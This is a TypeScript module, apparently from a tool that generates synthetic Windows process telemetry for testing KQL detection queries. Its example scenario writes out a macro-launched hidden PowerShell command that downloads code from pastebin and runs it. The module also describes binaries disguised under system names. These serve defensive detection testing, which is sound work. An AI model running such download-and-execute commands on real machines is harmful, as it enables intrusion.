import { accountOf } from "../../resolve/actors.ts";
import type { StepFile } from "../../format/scenario-file.ts";
import type { Integrity } from "../../facts/windows.ts";
import type { ProcessStep } from "../../model/incident.ts";
import { millisecond } from "../../model/moment.ts";
import { startProcess } from "../../generate/processes.ts";
import { commonOf } from "../../resolve/acting.ts";
import {
  resolveFile,
  resolveReference,
  serviceOf,
  stepOf,
} from "../../resolve/resolve-reference.ts";
import { processRow } from "../../generate/event-rows.ts";
import { integer, nonEmpty, oneOf, optional, text } from "../../format/shape.ts";
import { asKey } from "../common.ts";
import { stepKind, type StepKind } from "../step.ts";

/** A process starts: one row of `DeviceProcessEvents`. */
export interface ProcessStepFile extends StepFile {
  readonly process: string;
  readonly parent?: string;
  readonly command?: string;
  readonly as?: string;
  readonly integrity?: Integrity;
  readonly pid?: number;
  readonly copyOf?: string;
}

const table = "DeviceProcessEvents";

export const processKind: StepKind = stepKind<ProcessStepFile, ProcessStep>({
  name: "process",
  title: "a program starts",
  about: `Gives a row of \`DeviceProcessEvents\`.

Programs in a chain run too, and connections show them, but they have no row of their own. The same program below the same parents is the same process throughout the scenario.

A known name in another place is another file: \`C:\\Users\\Public\\svchost.exe\` has hashes of its own, no version, and runs as the user.

Command lines are written down as the Windows sensor reports them: the folder before the program's own name is dropped, and two blanks follow a command that was typed to \`cmd.exe\` without quotes.`,
  example: String.raw`- process: powershell.exe
  parent: cmd.exe < WINWORD.EXE /n "C:\Users\{user}\Downloads\Order.docm"
  command: powershell.exe -nop -w hidden -c "iex (iwr https://pastebin.com/raw/{alnum:8})"
  as: alice
  integrity: High`,
  keys: {
    process: nonEmpty({
      description:
        "A program that kqltest knows (docs/scenarios.md lists them), with its path, version, hashes, usual arguments, parent and account; or a whole path, of which nothing is known",
    }),
    parent: optional(
      nonEmpty({
        description:
          "An earlier step, or programs from the parent upwards, parted by ` < `. A step may end the chain: `cmd.exe < word`",
        fallback: "the program's usual parent",
      }),
    ),
    command: optional(nonEmpty({ description: "The command line", fallback: "the usual one" })),
    as: asKey,
    integrity: optional(
      oneOf(["Low", "Medium", "High", "System"], {
        description: "Integrity level",
        fallback: "the parent's; `System` for the built-in accounts",
      }),
    ),
    pid: optional(integer({ description: "Process id", fallback: "drawn" }, 0, 4_294_967_295)),
    copyOf: optional(
      text({
        description: String.raw`The known program whose file this is under another name or in another place: ${"`"}process: C:\Users\Public\x.exe${"`"} with ${"`"}copyOf: regsvr32.exe${"`"} has the hashes and the original name of regsvr32`,
      }),
    ),
  },
  resolve(step, place, context) {
    const { path } = place;
    const link = resolveFile(step, path, context.problems);
    const owner =
      step.parent === undefined
        ? { links: [] }
        : resolveReference(step.parent, [...path, "parent"], context);
    const above = stepOf(owner, context);
    return {
      kind: "process",
      ...commonOf(step, table, { place, context, above }),
      ...link,
      owner,
      account: accountOf(
        { named: step.as, inherited: serviceOf(link) ?? above?.account, other: step.on, path },
        context.actors,
        context.problems,
      ),
      command: step.command,
      integrity: step.integrity,
      pid: step.pid,
    };
  },
  rows(step, { index, time }, { draw, clock, processes }) {
    const process = startProcess(processes, step, { index, creation: time });
    // The sensor reports a start some milliseconds after it, though never later than now.
    const lag = draw.random(`lag/${step.id}`).integer(millisecond, 40 * millisecond);
    return [{ table, row: processRow(process, Math.min(time + lag, Math.max(time, 0)), clock) }];
  },
});
